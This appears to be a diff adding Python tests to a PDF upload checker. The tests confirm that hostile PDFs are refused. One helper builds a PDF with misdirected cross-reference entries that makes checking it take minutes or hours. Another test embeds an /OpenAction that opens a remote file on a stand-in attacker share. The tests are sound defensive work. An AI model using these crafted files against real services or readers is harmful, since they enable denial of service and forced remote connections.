@@ -163,3 +163,48 @@ def test_a_stored_file_is_a_download_under_a_generated_name(client, db, make_use
     assert "sandbox" in response.headers["Content-Security-Policy"]
     page = client.get("/providers/me").get_data(as_text=True)
     assert "q.html" in page  # the original name is still what the page shows
+
+
+def _misdirected(entries):
+    """A PDF whose cross-reference entries all point at the wrong object: each lookup then searches
+    the whole file. 20,000 such entries took 49 s to check (0.4 MB; a 10 MB one, hours), holding
+    the worker and, on SQLite, everyone's write lock."""
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n")
+    out.write(
+        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
+    )
+    xref = out.tell()
+    out.write(f"xref\n0 {entries}\n".encode() + b"0000000000 65535 f \n0000000009 00000 n \n0000000054 00000 n \n")
+    out.write(b"0000000009 00000 n \n" * (entries - 3))
+    out.write(f"trailer\n<< /Size {entries} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
+    return out.getvalue()
+
+
+def test_a_pdf_built_to_make_checking_it_slow_is_refused_in_bounded_time(monkeypatch):
+    import time
+
+    monkeypatch.setattr(uploads, "PDF_CHECK_SECONDS", 0.5)
+    started = time.monotonic()
+    assert uploads.problem(_misdirected(20_000), "application/pdf") is uploads.TANGLED_PDF
+    assert time.monotonic() - started < 3
+    assert uploads.problem(_misdirected(uploads.PDF_MAX_OBJECTS + 10), "application/pdf") is uploads.TANGLED_PDF
+
+
+def test_a_pdf_that_opens_a_remote_file_is_refused():
+    def remote(writer):
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+            {
+                NameObject("/S"): NameObject("/GoToR"),
+                NameObject("/F"): TextStringObject("\\\\attacker.example\\share\\x.pdf"),
+            }
+        )
+
+    assert uploads.problem(_pdf(remote), "application/pdf") is uploads.ACTIVE_PDF
+
+
+def test_an_encrypted_pdf_that_opens_without_a_password_is_accepted_one_that_needs_one_is_refused():
+    restricted = _pdf(lambda w: w.encrypt(user_password="", owner_password="bureau", algorithm="AES-256"))
+    locked = _pdf(lambda w: w.encrypt(user_password="secret", owner_password="bureau", algorithm="AES-256"))
+    assert uploads.problem(restricted, "application/pdf") is None
+    assert uploads.problem(locked, "application/pdf") is uploads.LOCKED_PDF
